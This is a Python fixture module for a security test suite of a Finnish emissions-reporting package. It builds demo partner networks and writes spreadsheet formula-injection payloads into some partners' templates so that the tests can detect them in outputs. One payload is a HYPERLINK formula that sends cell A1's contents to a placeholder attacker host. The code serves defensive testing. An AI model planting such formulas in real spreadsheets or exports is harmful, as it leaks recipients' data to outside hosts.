"""Networks for the attacker suite, built in code: templates by the package's own writers, processed in-process.

`build_network` writes demo partners (`paastolaskuri.demo.network`), optionally rewrites some of them with
formula-injection payloads in their name, site and note, and computes every template as the runner's
step 2 does (`compute_footprint` -> `write_partner` -> `write_year_tables`), without a kernel.
`Truth` is what the coordinator holds: every processed partner-year and emission line, the figures
the attacks try to recover.
"""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
from filelock import FileLock

from paastolaskuri.core.workspace import Workspace, partner_slug
from paastolaskuri.demo.commitments import template_commitments
from paastolaskuri.demo.network import demo_partner, partner_year, write_demo
from paastolaskuri.footprint import compute_footprint
from paastolaskuri.intake.template import write_template
from paastolaskuri.reporting.processed import write_partner, write_year_tables

YEARS = [2022, 2023, 2024]
# text a partner types that a spreadsheet would execute; the marker INJ finds it in any output
PAYLOADS = {
    "=": '=HYPERLINK("http://attacker.invalid/?d="&A1,"INJ-eq")',
    "+": "+INJ-plus+1",
    "-": "-INJ-minus-1",
    "@": "@SUM(INJ-at)",
}
INJECT_MARKER = "INJ-"
# partners (by index) whose every template carries payloads: name, first line's site and note
INJECTED = {1: "=", 2: "+", 3: "-", 4: "@"}


@dataclass(frozen=True)
class Truth:
    """What the coordinator holds: every processed partner-year (all kg_* and size columns) and line."""

    root: Path
    partners: pd.DataFrame  # partners.csv of every year, one row per partner-year
    emissions: pd.DataFrame  # emissions.csv of every year, with a year column

    @classmethod
    def read(cls, root: Path) -> Truth:
        """The processed tables of every year under `root`."""
        ws = Workspace.at(root)
        partners, emissions = [], []
        for year in ws.processed_years():
            d = ws.processed_dir(year)
            if (d / "partners.csv").is_file() and (d / "partners.csv").stat().st_size > 1:
                p = pd.read_csv(d / "partners.csv", dtype={"sector": str, "section": str})
                partners.append(p.assign(year=year))
                emissions.append(pd.read_csv(d / "emissions.csv").assign(year=year))
        return cls(
            Path(root), pd.concat(partners, ignore_index=True), pd.concat(emissions, ignore_index=True)
        )

    def year(self, year: int) -> pd.DataFrame:
        """The partner-years of `year`."""
        return self.partners[self.partners["year"] == year]


def inject(root: Path, partners: int, seed: int = 2024) -> None:
    """Rewrite the templates of the INJECTED partners with a payload as name, site and note."""
    ws = Workspace.at(root)
    for index, char in INJECTED.items():
        if index >= partners:
            continue
        partner = demo_partner(index, seed)
        commitments = template_commitments(partner["archetype"], min(YEARS), max(YEARS))
        for year in YEARS:
            org, lines = partner_year(partner, year, min(YEARS), seed)
            org["name"] = PAYLOADS[char]
            lines[0] = dict(lines[0], site=PAYLOADS[char], note=PAYLOADS[char])
            out = ws.raw_dir(year) / f"{org['partner_id']}.xlsx"
            write_template(out, lang="fi", organisation=org, lines=lines, commitments=commitments)
            _as_text(out)


def _as_text(path: Path) -> None:
    """Store every payload cell as text, as a partner's typed '=...' (or a pasted CSV) arrives."""
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and INJECT_MARKER in cell.value:
                    cell.data_type = "s"  # openpyxl would otherwise store a leading "=" as a formula
    wb.save(path)


def process_year(root: Path, year: int, lang: str = "fi") -> list[str]:
    """The runner's step 2 for `year` without a kernel: every valid template computed and written; the failed."""
    ws = Workspace.at(root)
    rows, failed, slugs = [], [], []
    for path in ws.templates(year):
        fp = compute_footprint(path, workspace=ws.root, display=path.name)
        pid = str((fp.organisation or {}).get("partner_id") or "")
        if not fp.ok or fp.factor_set is None or not partner_slug(pid):
            failed.append({"partner": pid or path.name, "file": path.name, "messages": []})
            continue
        slug = partner_slug(pid)
        slugs.append(slug)
        rows.append(write_partner(ws, year, slug, fp, lang))
    d = ws.processed_dir(year)
    d.mkdir(parents=True, exist_ok=True)
    status = {"registered": len(rows) + len(failed), "failed": failed, "missing": []}
    (d / "run_status.json").write_text(json.dumps(status), encoding="utf-8")
    write_year_tables(ws, year, rows, lang)
    return [f["partner"] for f in failed]


def build_network(root: Path, partners: int, *, injected: bool) -> Truth:
    """Demo partners for YEARS under `root` (payloads in some when `injected`), processed; the truth."""
    write_demo(root, years=YEARS, partners=partners)
    if injected:
        inject(root, partners)
    for year in YEARS:
        process_year(root, year)
    return Truth.read(root)


# the networks of the suite: partners, formula payloads in some templates
NETWORKS = {"demo": (6, False), "net40": (40, True)}


def build_once(shared: Path, name: str) -> Path:
    """The network `name` under `shared`, built by whichever process gets there first (a file lock).

    The test workers and the background build started at collection (conftest.py) all call this; a
    build that was stopped half-way (no `.done` marker) is removed and made again.
    """
    root, done = shared / f"security-{name}", shared / f"security-{name}.done"
    with FileLock(str(shared / f"security-{name}.lock")):
        if not done.exists():
            shutil.rmtree(root, ignore_errors=True)
            partners, injected = NETWORKS[name]
            build_network(root, partners, injected=injected)
            done.write_text("ok")
    return root
